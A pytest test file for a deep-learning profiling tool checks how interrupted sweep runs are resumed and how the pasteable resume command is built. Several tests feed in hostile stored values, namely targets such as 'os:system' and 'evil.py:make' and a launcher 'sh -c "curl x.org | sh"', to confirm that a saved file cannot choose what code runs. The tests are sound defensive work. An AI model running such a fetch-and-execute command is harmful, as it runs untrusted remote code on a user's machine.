"""Which runs can be continued, and how."""

from __future__ import annotations

import dataclasses
import shlex
from pathlib import Path
from typing import Any

import pytest
from builders import config, header, run, target, trial

from dlprof.engine import run_sweep
from dlprof.engine.sweep import resumed_settings, same_run
from dlprof.errors import FileError, UsageError
from dlprof.records import RankFigures
from dlprof.report.live import QuietListener
from dlprof.settings import SweepSettings, settings_to_json
from dlprof.store import RunWriter

STORED = SweepSettings(num_workers=(0, 2), budget_s=10.0)


def test_what_is_continued_is_not_replaced_too(tmp_path: Path) -> None:
    asked = SweepSettings(target="synthetic")
    with pytest.raises(UsageError, match="resume and force"):
        run_sweep(
            asked, output=tmp_path / "none", listener=QuietListener(), resume=True, force=True
        )


def test_what_can_not_be_gone_on_with_is_refused_before_anything_is_built(tmp_path: Path) -> None:
    path = tmp_path / "profile.dlprof.jsonl"

    def go_on() -> None:
        run_sweep(SweepSettings(), output=path, listener=QuietListener(), resume=True)

    about = header(settings=settings_to_json(STORED))
    with (
        RunWriter.create(path, about),
        pytest.raises(FileError, match="Another sweep is writing"),
    ):
        go_on()
    with pytest.raises(UsageError, match="holds no plan"):
        go_on()


def test_the_stored_settings_are_gone_on_with() -> None:
    assert resumed_settings(STORED, SweepSettings(), ()) == STORED


def test_more_time_may_be_given() -> None:
    resumed = resumed_settings(STORED, SweepSettings(budget_s=99.0), {"budget_s"})

    assert resumed.budget_s == 99.0
    assert resumed.num_workers == (0, 2)


def test_what_was_measured_can_not_be_changed() -> None:
    with pytest.raises(UsageError, match="num_workers"):
        resumed_settings(STORED, SweepSettings(num_workers=(1,)), {"num_workers"})


@pytest.mark.parametrize(
    ("stored", "option"),
    [
        (SweepSettings(target="os:system", arguments={"command": "true"}), "TARGET"),
        (SweepSettings(target="evil.py:make"), "TARGET"),
        (SweepSettings(target="images", step_callable="os:abort"), "--step"),
        (SweepSettings(target="<Live>"), "TARGET"),
    ],
)
def test_a_file_does_not_choose_what_code_runs(stored: SweepSettings, option: str) -> None:
    with pytest.raises(UsageError, match=option):
        resumed_settings(stored, SweepSettings(), ())


def test_arguments_of_a_named_target_are_named_too() -> None:
    stored = SweepSettings(target="my:make", arguments={"root": "/data"})
    with pytest.raises(UsageError, match="--arg"):
        resumed_settings(stored, SweepSettings(target="my:make"), {"target"})

    assert resumed_settings(stored, stored, {"target", "arguments"}) == stored


def test_a_run_of_two_nodes_is_not_gone_on_with_by_one() -> None:
    ranks = tuple(RankFigures(rank=rank, host=f"node{rank // 2}") for rank in range(4))
    before = run([trial(config(2), 100.0, ranks=ranks)], settings={"launch_ranks": [2]})
    header = before.header
    here = SweepSettings(), header.machine, header.target, {"torch": header.torch_version}

    assert same_run(before, *here, 4) == header
    with pytest.raises(UsageError, match="number of ranks was 4, and is now 2"):
        same_run(before, *here, 2)


def test_a_run_of_other_batches_is_not_gone_on_with() -> None:
    """Whose configurations leave the batch size to the target."""
    before = run([trial(config(2), 100.0)])
    header, larger = before.header, target(batch_size=64, batches_per_epoch=500)
    versions = {"torch": header.torch_version}
    with pytest.raises(UsageError, match="batch size was 32, and is now 64"):
        same_run(before, SweepSettings(), header.machine, larger, versions, 1)


def test_the_command_to_go_on_can_be_pasted() -> None:
    settings = SweepSettings(
        target="my data.py:make", arguments={"root": "a b"}, step_callable="my:step"
    )

    assert run((), settings=settings_to_json(settings)).resume_command == (
        "dlprof sweep 'my data.py:make' --arg 'root=a b' --step my:step --resume "
        "-o run.dlprof.jsonl"
    )
    plain = run((), settings=settings_to_json(SweepSettings()))
    assert plain.resume_command == "dlprof sweep images --resume -o run.dlprof.jsonl"
    launched = dataclasses.replace(
        plain, header=dataclasses.replace(plain.header, launcher=("torchrun", "-m"))
    )
    assert launched.resume_command.startswith("torchrun -m dlprof sweep images --resume")
    hostile = dataclasses.replace(
        plain, header=dataclasses.replace(plain.header, launcher=("sh", "-c", "curl x.org | sh"))
    )
    assert hostile.resume_command == plain.resume_command
    for kind in ("<TensorDataset>", "<make.<locals>.Own>", "<Kept[int, str]>"):
        live = run((), settings={**settings_to_json(SweepSettings()), "target": kind})
        called = f"dlprof.sweep({kind}, output='run.dlprof.jsonl', resume=True)"
        assert live.resume_command == called
    # What is named again is what was stored.
    assert (
        resumed_settings(settings, settings, {"target", "arguments", "step_callable"}) == settings
    )


@pytest.mark.parametrize("settings", [{}, {"arguments": ["a"], "target": 5, "step_callable": 0.5}])
def test_of_a_file_that_says_nonsense_the_command_is_one_all_the_same(
    settings: dict[str, Any],
) -> None:
    words = shlex.split(run((), settings=settings).resume_command)
    assert words[:2] == ["dlprof", "sweep"]
    assert words[-3:] == ["--resume", "-o", "run.dlprof.jsonl"]
